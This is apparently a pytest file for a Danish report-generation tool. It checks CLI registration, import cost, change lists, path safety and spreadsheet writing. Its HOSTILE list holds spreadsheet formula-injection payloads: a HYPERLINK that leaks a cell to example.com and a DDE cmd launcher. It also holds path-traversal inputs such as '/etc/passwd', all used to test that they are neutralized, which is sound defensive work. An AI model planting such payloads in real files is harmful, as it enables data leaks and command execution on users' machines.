"""The pipeline's contracts: every command on the CLI group, the changes appendix says what changed,
no process-wide state left behind by a build, names that become paths never leave their folder, and
owners' text never becomes a formula in a workbook reportgen writes."""

from __future__ import annotations

import dataclasses
import datetime as dt
import os
import re
import subprocess
import sys
import zipfile

import click
import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

from reportgen.checks import check
from reportgen.cli import cli
from reportgen.configuration import load_config
from reportgen.diff import diff_editions
from reportgen.locales import Messages
from reportgen.model import Catalogue, Role
from reportgen.pdf import lay_out, write_pdf
from reportgen.problems import BuildError, ConfigError
from reportgen.render import render_html, template_dirs
from reportgen.round.sheets import write_round
from reportgen.sheets.feedback import write_feedback
from reportgen.writers import inside

from .conftest import SAMPLE_CONFIG

HOSTILE = ['=HYPERLINK("http://example.com/?"&B19, "Klik her")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)"]


def test_the_cli_group_has_every_command_reportgen_help_lists():
    listed = subprocess.run([sys.executable, "-m", "reportgen", "--help"], capture_output=True, text=True, check=True)
    commands = set(re.findall(r"^  (\w+)\s", listed.stdout.split("Commands:")[1], re.MULTILINE))
    with click.Context(cli) as ctx:
        assert commands == set(cli.list_commands(ctx)) == {
            "archive", "build", "check", "desk", "diff", "export", "extract", "history", "new", "proof", "publish",
            "round", "serve", "sheets", "template"}
        for name in commands:  # each one found in its module, under its own name
            command = cli.get_command(ctx, name)
            assert command is not None and command.name == name
        assert cli.get_command(ctx, "nonsense") is None


def test_the_commands_that_make_no_pdf_do_not_import_weasyprint(tmp_path):
    """`reportgen check` (and every command's module) stays light: WeasyPrint is imported only when
    pages are laid out (it takes most of a second)."""
    code = ("import importlib, sys; from reportgen.cli import COMMANDS; "
            "from reportgen.pipeline import check_inputs, load; "
            "[importlib.import_module(f'reportgen.cli.{module}') for module, _ in COMMANDS.values()]; "
            "check_inputs(load(sys.argv[1])[0]); import reportgen.pdf, reportgen.pdf.attachments; "
            "print(sorted(m for m in sys.modules if m.split('.')[0] == 'weasyprint'))")
    loaded = subprocess.run([sys.executable, "-c", code, str(SAMPLE_CONFIG)], capture_output=True, text=True,
                            check=True, cwd=tmp_path)
    assert loaded.stdout.strip() == "[]"


def test_reportgen_check_imports_only_what_reading_and_checking_need(tmp_path):
    """The command as users run it: no templates (Jinja2, markdown-it), no PDF library, no archive,
    no live preview; each would add to every check's start (bench/RESULTS.md)."""
    code = ("import atexit, sys; from reportgen.cli import main; "
            "atexit.register(lambda: print(' '.join(sorted(sys.modules))));"
            "sys.argv = ['reportgen', 'check', '-q', '-c', sys.argv[1]]; main()")
    ran = subprocess.run([sys.executable, "-c", code, str(SAMPLE_CONFIG)], capture_output=True, text=True, cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr
    modules = set(ran.stdout.split())
    loaded = {m.split(".")[0] for m in modules}
    assert {"openpyxl", "pydantic", "click"} <= loaded  # what it does need: the test can see imports
    assert {"reportgen.checks", "reportgen.cli.check"} <= modules
    assert loaded.isdisjoint({"jinja2", "markdown_it", "weasyprint", "pypdf", "pikepdf", "watchfiles", "frictionless"})
    assert not [m for m in modules if m.startswith(("reportgen.render", "reportgen.archive", "reportgen.pdf",
                                                     "reportgen.preview", "reportgen.cli.inputs"))]


def test_the_changes_appendix_says_what_changed(sample_catalogue):
    config = sample_catalogue.config
    before = {a.number: a for a in sample_catalogue.actions}
    changed = dict(before)
    changed[7] = dataclasses.replace(before[7], title="Nyt navn")
    changed[1] = dataclasses.replace(before[1], committees=("oekonomi",))
    changed[25] = dataclasses.replace(before[25], roles={**before[25].roles, "staben": Role.NONE})
    after = Catalogue(config, sorted(changed.values(), key=lambda a: a.number))
    changes = diff_editions(sample_catalogue.to_dict(), after.to_dict())
    html = render_html(after, changes=changes)
    section = html[html.index('<section class="changes"'):]
    items = [re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", item)).strip()
             for item in re.findall(r"<li>(.*?)</li>", section[:section.index("</section>")], re.DOTALL)]
    old_title = before[7].title
    assert items[1] == f"7. Nyt navn: titel {old_title} → Nyt navn"
    removed = sorted(set(before[1].committees) - {"oekonomi"})
    names = {c.key: c.abbreviation for c in config.committees}
    assert items[0] == "1. {}: udvalg ændret ({})".format(before[1].title, ", ".join(f"-{names[k]}" for k in removed))
    assert before[25].roles["staben"] is Role.INTEREST
    assert items[2] == f"25. {before[25].title}: forvaltninger ændret (Staben: Interessent → Ingen)"


def test_writing_a_pdf_leaves_no_source_date_epoch_behind(config):
    assert "SOURCE_DATE_EPOCH" not in os.environ
    document = lay_out("<p>Et afsnit</p>", template_dirs(config))
    first = write_pdf(document, created=dt.date(2017, 6, 2), variant=None)
    assert first.startswith(b"%PDF") and "SOURCE_DATE_EPOCH" not in os.environ


@pytest.mark.parametrize("key, value", [("version", "/../../x/pwned"), ("version", "a/b"), ("edition", "../2017"),
                                        ("edition", ".."), ("version", "1\x00"), ("version", "v1\n2")])
def test_a_name_that_becomes_a_path_is_refused_with_its_key_and_line(tmp_path, key, value):
    data = yaml.safe_load(SAMPLE_CONFIG.read_text(encoding="utf-8"))
    data["report"][key] = value
    path = tmp_path / "report.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_config(path)
    [finding] = info.value.findings
    line = next(n for n, text in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
                if text.startswith(f"  {key}:"))
    assert finding.code == "config-invalid" and f"report.{key}" in finding.message and finding.cell == f"line {line}"
    run = CliRunner().invoke(cli, ["build", "-c", str(path), "--out", str(tmp_path / "out")])
    assert run.exit_code == 2 and not (tmp_path / "out").exists()
    assert not list(tmp_path.parent.glob("pwned*")) and not (tmp_path.parent / "x").exists()


def test_every_target_is_checked_against_its_folder(tmp_path):
    t = Messages("da")
    assert inside(tmp_path, "a.pdf", t) == tmp_path / "a.pdf"
    for name in ("../a.pdf", "/etc/passwd", "x/../../a", "", ".", "a\x00b"):
        with pytest.raises(BuildError):
            inside(tmp_path, name, t)


def set_text(path, **values: str) -> None:
    """Type text into named cells as an owner's spreadsheet stores it: as text, even when it starts with '='."""
    wb = load_workbook(path)
    for name, value in values.items():
        sheet, coord = next(iter(wb.defined_names[name].destinations))
        cell = wb[sheet][coord.replace("$", "")]
        cell.value = value
        cell.data_type = "s"
    wb.save(path)


def _formulas(path) -> list[str]:
    """The formulas stored in a workbook's sheets, read from its XML (what Excel would compute)."""
    with zipfile.ZipFile(path) as zf:
        return [m for name in zf.namelist() if name.startswith("xl/worksheets/")
                for m in re.findall(r"<f>(.*?)</f>", zf.read(name).decode("utf-8"))]


def test_owners_text_is_written_back_as_text_never_as_a_formula(report_dir, tmp_path, sample_catalogue):
    config, _ = load_config(report_dir / "report.yaml")
    sheet = report_dir / "sheets" / "07.xlsx"
    set_text(sheet, rg_field_maal=HOSTILE[0], rg_field_tid=HOSTILE[1], rg_responsible=HOSTILE[2],
             rg_title=HOSTILE[3], rg_status=HOSTILE[0])
    outcome = check(config)
    written = write_feedback(config, outcome.result, outcome.sheets, tmp_path / "feedback")
    assert [p.name for p in written] == ["07.xlsx"]
    first = sample_catalogue.actions[0]
    action = dataclasses.replace(first, texts={**first.texts, "maal": HOSTILE[0], "tid": HOSTILE[1]},
                                 responsible=HOSTILE[2], title=HOSTILE[3])
    data = {"actions": [action.to_dict()]}
    edition = tmp_path / "data.json"
    edition.write_text(__import__("json").dumps(data), encoding="utf-8")
    round_ = write_round(config, tmp_path / "round", edition)
    for path in [*written, *round_.sheets]:
        assert _formulas(path) == []
        wb = load_workbook(path)
        texts = {cell.value for ws in wb.worksheets for row in ws.iter_rows() for cell in row
                 if isinstance(cell.value, str)}
        assert set(HOSTILE[:2]) <= texts and HOSTILE[2] in texts
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.value in HOSTILE:
                        assert cell.data_type == "s" and cell.quotePrefix
    again = check(config, [round_.sheets[0]])  # and it reads back as the very text
    assert again.result.errors == []
    [read] = again.catalogue.actions
    assert (read.texts["maal"], read.texts["tid"], read.responsible, read.title) == tuple(HOSTILE)


@pytest.mark.parametrize(("title", "item"), [("Planen for byen.", "Planen for byen. – titel"),
                                              ("Hvorfor ikke?", "Hvorfor ikke? – titel"),
                                              ("Byen og …", "Byen og … – titel"), ("Mål:", "Mål: titel"),
                                              ("Planen", "Planen: titel")])
def test_the_changes_list_never_doubles_a_titles_punctuation(sample_catalogue, title, item):
    """A title that ends a sentence gets no ":" after its full stop (".:", "?:", "…:"), issue 24."""
    before = {a.number: a for a in sample_catalogue.actions}
    after = Catalogue(sample_catalogue.config, [dataclasses.replace(before[7], title=title)])
    changes = diff_editions(Catalogue(sample_catalogue.config, [before[7]]).to_dict(), after.to_dict())
    html = render_html(after, changes=changes)
    section = html[html.index('<section class="changes"'):]
    (shown,) = [re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", li)).strip()
                for li in re.findall(r"<li>(.*?)</li>", section[:section.index("</section>")], re.DOTALL)]
    assert shown.startswith(f"7. {item} ")


def test_the_web_edition_is_made_in_another_process_while_the_pages_are_laid_out() -> None:
    """A ``Helper`` (the build's web edition and open data, on the second core) runs in a process of
    its own; an error there is raised here as the work's own."""
    from reportgen.pipeline import Helper

    helper = Helper()
    try:
        assert helper.submit(os.getpid)() != os.getpid()
        with pytest.raises(ValueError, match="invalid literal"):
            helper.submit(int, "x")()
    finally:
        helper.close()



def test_the_process_made_beside_ends_when_its_parent_is_killed(tmp_path) -> None:
    """A build killed outright (kill -9) leaves no process behind, waiting for ever to hand in the web edition."""
    import time
    from pathlib import Path

    script = ("import os, time\nfrom reportgen.pipeline import Helper\n"
              "result = Helper().submit(time.sleep, 120)\nprint(os.getpid(), flush=True)\ntime.sleep(120)\n")
    parent = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True, cwd=tmp_path)
    pid = int(parent.stdout.readline())

    def alive(kid: int) -> bool:
        status = Path(f"/proc/{kid}/status")
        return status.exists() and "\tZ" not in status.read_text().partition("State:")[2][:4]

    children, kids = Path(f"/proc/{pid}/task/{pid}/children"), []
    for _ in range(600):  # the pool starts its process with the first piece of work
        kids = [int(k) for k in children.read_text().split()]
        if kids:
            break
        time.sleep(0.1)
    assert kids, "no process was made beside"
    parent.kill()
    parent.wait()
    for _ in range(600):
        if not any(alive(kid) for kid in kids):
            break
        time.sleep(0.1)
    assert not [kid for kid in kids if alive(kid)]
